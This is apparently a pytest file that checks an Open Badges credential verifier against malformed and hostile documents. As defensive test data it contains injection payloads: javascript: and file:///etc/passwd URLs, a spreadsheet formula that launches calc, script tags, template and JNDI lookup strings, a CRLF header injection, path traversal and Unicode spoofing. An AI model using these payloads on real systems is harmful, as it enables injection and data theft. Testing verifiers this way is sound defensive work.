"""Attacks on the data model (groups DM, OB, UI): parts that are missing, bent, dangerous or only look right."""

from typing import Any, Final

import pytest

from issuer.documents.strict_json import Json, JsonObject
from issuer.documents.times import format_time
from tests.papers import AWARDED, NOW, achievement, changed, endorsement, later, status_entry, subject
from tests.verify.attacks import (
    EXTENSIONS,
    OPEN_BADGES,
    V1,
    V2,
    attacked_world,
    attacker_of,
    badge,
    require,
    sign_anything,
    signed,
)
from tests.worlds import World, sign

FORM: Final = "SCHEMA_VIOLATION MALFORMED_VALUE_ERROR"


@pytest.fixture
def world() -> World:
    return attacked_world()


def of_achievement(**change: Json) -> JsonObject:
    return subject(achievement=achievement(**change))


def identity(**change: Json) -> JsonObject:
    made: JsonObject = {
        "type": "IdentityObject",
        "hashed": False,
        "identityHash": "x",
        "identityType": "name",
    }
    return subject(identifier=[changed(made, **change)])


SUBJECTS: Final[dict[str, JsonObject]] = {
    "no achievement": subject(achievement=None),
    "two achievements": subject(achievement=[achievement(), achievement()]),
    "an address for it": subject(achievement="urn:x:y"),
    "no criteria": of_achievement(criteria=None),
    "empty criteria": of_achievement(criteria={}),
    "criteria as text": of_achievement(criteria="x"),
    "no name": of_achievement(name=None),
    "no description": of_achievement(description=None),
    "no id": of_achievement(id=None),
    "another type": of_achievement(type=["Profile"]),
    "no type of the subject": subject(type=None),
    "another type of the subject": subject(type=["Achievement"]),
    "nobody": subject(id=None),
    "hours as text": subject(creditsEarned="1.5"),
    "hours as true": subject(creditsEarned=True),
    "fewer hours than none": subject(creditsEarned=-0.5),
    "fewer hours offered than none": of_achievement(creditsAvailable=-1),
    "an unknown kind": of_achievement(achievementType="Foo"),
    "an unknown identity": identity(identityType="Foo"),
    "an identity that says more": identity(name="x"),
    "a truth as text": identity(hashed="false"),
    "a hash that is none": identity(hashed=True, identityHash="pat@lakes.example"),
    "a hash of another kind": identity(hashed=True, identityHash="sha1$" + "a" * 40),
    "an unknown status of a result": subject(result=[{"type": ["Result"], "status": "Passed"}]),
    "a value as a number": subject(result=[{"type": ["Result"], "value": 7}]),
    "a result of another type": subject(result=[{"type": ["Foo"], "value": "7"}]),
    "a standard without address": of_achievement(alignment=[{"type": ["Alignment"], "targetName": "x"}]),
    "tags of numbers": of_achievement(tag=[7]),
    "a language in words": of_achievement(inLanguage="english language"),
    "a relative without id": of_achievement(related=[{"type": ["Related"]}]),
}
PROFILE: Final[JsonObject] = World().issuer.profile()
DOCUMENTS: Final[dict[str, dict[str, Any]]] = {
    "no issuer": {"issuer": None},
    "issuers": {"issuer": [PROFILE]},
    "an issuer without id": {"issuer": changed(PROFILE, id=None)},
    "an issuer without type": {"issuer": changed(PROFILE, type=None)},
    "a number for an issuer": {"issuer": 7},
    "no subject": {"credentialSubject": None},
    "no subject in the list": {"credentialSubject": []},
    "two subjects": {"credentialSubject": [subject(), subject()]},
    "an empty subject": {"credentialSubject": {}},
    "a text for a subject": {"credentialSubject": "urn:x:y"},
    "no beginning": {"validFrom": None},
    "no id": {"id": None},
    "a number for an id": {"id": 7},
    "two ids": {"id": ["urn:x:y", "urn:x:z"]},
    "no type": {"type": None},
    "one type": {"type": "OpenBadgeCredential"},
    "not a credential": {"type": ["OpenBadgeCredential"]},
    "also an endorsement": {"type": ["VerifiableCredential", "OpenBadgeCredential", "EndorsementCredential"]},
    "also a status list": {
        "type": ["VerifiableCredential", "OpenBadgeCredential", "BitstringStatusListCredential"]
    },
    "also a presentation": {
        "type": ["VerifiableCredential", "OpenBadgeCredential", "VerifiablePresentation"]
    },
    "an empty name": {"name": ""},
    "a number for a name": {"name": 7},
    "a name of two lines": {"name": "badge\r\nSet-Cookie: a=b"},
    "a very long name": {"name": "x" * 5_000},
    "evidence of another type": {"evidence": [{"type": ["Foo"]}]},
    "evidence by address": {"evidence": ["urn:x:y"]},
    "too much evidence": {
        "evidence": [{"id": f"urn:e:{number}", "type": ["Evidence"]} for number in range(101)]
    },
    "a schema without id": {"credentialSchema": [{"type": "JsonSchema"}]},
    "terms without type": {"termsOfUse": [{"id": "urn:x:y"}]},
    "words of the older model": {"issuanceDate": AWARDED},
    "the older context": {"@context": [V1, OPEN_BADGES]},
    "an end before the beginning": {"validUntil": "2026-09-14T15:04:04Z"},
    "a birthday of a year": {"issuer": {**PROFILE, "dateOfBirth": "1980"}},
}


@pytest.mark.parametrize("name", SUBJECTS)
def test_a_subject_that_is_not_one_of_open_badges_is_not_read(world: World, name: str) -> None:
    require(world, signed(world, credentialSubject=SUBJECTS[name]), "malformed", FORM)


@pytest.mark.parametrize("name", DOCUMENTS)
def test_a_document_that_is_not_a_badge_is_not_read(world: World, name: str) -> None:
    require(
        world, sign_anything(changed(badge(world), **DOCUMENTS[name]), world.issuer.key()), "malformed", FORM
    )


MOMENTS: Final = (
    "2026-W38-1T15:04:05Z|20260914T150405Z|2026-09-14 15:04:05Z|2026-09-14t15:04:05z|2026-09-14T15:04Z|2026-09-14"
    "|2026-09-14T15:04:05|2026-9-14T15:04:05Z|2026-13-01T00:00:00Z|2026-02-30T00:00:00Z|2026-09-14T24:00:00Z"
    "|2026-09-14T23:59:60Z|2026-09-14T15:60:05Z|2026-09-14T15:04:05+14:01|2026-09-14T15:04:05+0530|-2026-01-01T00:00:00Z"
    "|2026-09-14T15:04:05.Z|2026-09-14T15:04:05,5Z|2026-09-14T15:04:05.1234567890Z|0000-01-01T00:00:00Z"
    "|10000-01-01T00:00:00Z|\uff12026-09-14T15:04:05Z|2026-09-14T15:04:05Z | 2026-09-14T15:04:05Z|2026-09-14T15:04:05Z\n"
    "|1789398245|2026-257T00:00:00Z|"
)


@pytest.mark.parametrize(
    "moment", [*MOMENTS.split("|"), 1789398245, [AWARDED], {"@value": AWARDED}, True], ids=repr
)
def test_a_moment_is_written_in_one_way(world: World, moment: Any) -> None:
    require(world, signed(world, validFrom=moment), "malformed", FORM)
    require(world, signed(world, validUntil=moment), "malformed", FORM)


PERIODS: Final[dict[str, tuple[dict[str, Any], str]]] = {
    "ended now": ({"validUntil": format_time(NOW)}, "expired"),
    "ends in a microsecond": ({"validUntil": "2026-11-01T12:00:00.000001Z"}, "valid"),
    "begins in almost five minutes": ({"validFrom": later(seconds=300)}, "valid"),
    "begins later": ({"validFrom": later(seconds=301)}, "not_yet_valid"),
    "ends in the far west": ({"validUntil": "9999-12-31T23:59:59-14:00"}, "valid"),
}


@pytest.mark.parametrize("name", PERIODS)
def test_a_period_is_kept_to_the_moment(world: World, name: str) -> None:
    change, verdict = PERIODS[name]
    require(world, signed(world, **change), verdict)


PLACES: Final = (
    "the badge",
    "the subject",
    "the achievement",
    "criteria",
    "an image",
    "a page",
    "evidence",
    "a standard",
)


def linking(world: World, address: str, place: str) -> JsonObject:
    alignment: list[Json] = [{"type": ["Alignment"], "targetName": "x", "targetUrl": address}]
    changes: dict[str, JsonObject] = {
        "the badge": {"id": address},
        "the subject": {"credentialSubject": subject(id=address)},
        "the achievement": {"credentialSubject": of_achievement(id=address)},
        "criteria": {"credentialSubject": of_achievement(criteria={"id": address})},
        "an image": {"image": {"id": address, "type": "Image"}},
        "a page": {"issuer": {**world.issuer.profile(), "url": address}},
        "evidence": {"evidence": [{"id": address, "type": ["Evidence"]}]},
        "a standard": {"credentialSubject": of_achievement(alignment=alignment)},
    }
    return sign_anything({**badge(world), **changes[place]}, world.issuer.key())


@pytest.mark.parametrize("place", PLACES)
@pytest.mark.parametrize(
    "address",
    ["javascript:alert(1)", "JavaScript:alert(1)", "data:text/html,<b>", "vbscript:x", "file:///etc/passwd"],
)
def test_no_address_runs_anything(world: World, address: str, place: str) -> None:
    require(world, linking(world, address, place), "malformed", FORM)


def test_a_badge_that_breaks_the_schema_it_names_is_not_genuine(world: World) -> None:
    schema: JsonObject = {
        "id": "https://purl.imsglobal.org/spec/ob/v3p0/schema/json/ob_v3p0_achievementcredential_schema.json",
        "type": "1EdTechJsonSchemaValidator2019",
    }
    document: JsonObject = {
        **badge(world),
        "@context": [V2, OPEN_BADGES, EXTENSIONS],
        "credentialSchema": [schema],
    }
    require(world, sign(document, world.issuer.key()), "valid")
    broken: JsonObject = {**document, "credentialSubject": of_achievement(criteria=None)}
    require(world, sign(broken, world.issuer.key()), "invalid", "SCHEMA_VIOLATION")


def rated(level: str, description: str = "urn:r:1") -> JsonObject:
    levels: list[Json] = [
        {"id": f"urn:l:{number}", "type": ["RubricCriterionLevel"], "name": str(number)} for number in (1, 2)
    ]
    rubric: JsonObject = {
        "id": "urn:r:1",
        "type": ["ResultDescription"],
        "name": "r",
        "resultType": "RubricCriterionLevel",
        "requiredLevel": "urn:l:2",
        "rubricCriterionLevel": levels,
    }
    result: JsonObject = {"type": ["Result"], "resultDescription": description, "achievedLevel": level}
    return subject(achievement=achievement(resultDescription=[rubric]), result=[result])


WORDS: Final[dict[str, tuple[JsonObject, str, str]]] = {
    "a level that is not there": (rated("urn:l:9"), "invalid", "BUSINESS_RULE"),
    "a level below": (rated("urn:l:1"), "valid", "LEVEL_BELOW_REQUIRED"),
    "a description that is not there": (rated("urn:l:2", "urn:r:9"), "valid", "RESULT_NOT_DESCRIBED"),
    "more hours than offered": (subject(creditsEarned=3), "valid", "CREDITS_ABOVE_DEFINITION"),
    "MD5": (identity(hashed=True, identityHash="md5$" + "a" * 32, salt="x"), "valid", "HASH_NOT_ALLOWED"),
    "no salt": (identity(hashed=True, identityHash="sha256$" + "a" * 64), "valid", "UNSALTED_IDENTITY"),
    "another creator": (
        of_achievement(creator={**PROFILE, "id": "did:web:other.example"}),
        "valid",
        "CREATOR_DIFFERS",
    ),
}


@pytest.mark.parametrize("name", WORDS)
def test_what_is_odd_is_said_in_words(world: World, name: str) -> None:
    about, verdict, code = WORDS[name]
    require(world, signed(world, credentialSubject=about), verdict, code)


NAMES: Final = (
    "=cmd|' /C calc'!A0|@SUM(1)|<script>alert(1)</script>|{{7*7}}|${jndi:ldap://x.example/a}|a\u202eb|a\u200bb"
    "|\U000e0041x|\ue000|a\u0085b|a\u2028b|L\u0430kes|a" + "\u0301" * 200
)


@pytest.mark.parametrize("name", [*NAMES.split("|"), "../../etc/passwd", "%00"])
def test_a_name_is_only_a_name(world: World, name: str) -> None:
    require(world, signed(world, name=name), "valid")


def test_an_endorsement_counts_for_its_carrier_alone(world: World) -> None:
    friend = world.add("did:web:college.example", "College")
    about = str(achievement()["id"])
    good = sign(endorsement(friend, about), friend.key())
    ended = sign(endorsement(friend, about, validUntil=later(days=-1)), friend.key())
    withdrawn = sign(
        endorsement(friend, about, credentialStatus=status_entry("https://college.example/s")), friend.key()
    )
    wrong = {
        "about something else": sign(endorsement(friend, "urn:x:y"), friend.key()),
        "changed": {**good, "name": "Better"},
        "not signed": changed(good, proof=None),
        "signed by somebody else": sign(endorsement(friend, about), attacker_of(world).key()),
        "ended": ended,
        "of unknown status": withdrawn,
        "a badge": signed(world, id="urn:uuid:7c0f1c52-6f0e-4a55-9f4c-3d5c3f0a9b11"),
    }
    shown = world.verify(signed(world, credentialSubject=of_achievement(endorsement=[good])))
    assert [item.shown for item in shown.endorsements] == [True]
    for name, inner in wrong.items():
        report = world.verify(signed(world, credentialSubject=of_achievement(endorsement=[inner])))
        assert (report.verdict.value, [item.shown for item in report.endorsements]) == ("valid", [False]), (
            name
        )
        assert "ENDORSEMENT_NOT_SHOWN" in {warning.code for warning in report.warnings}, name
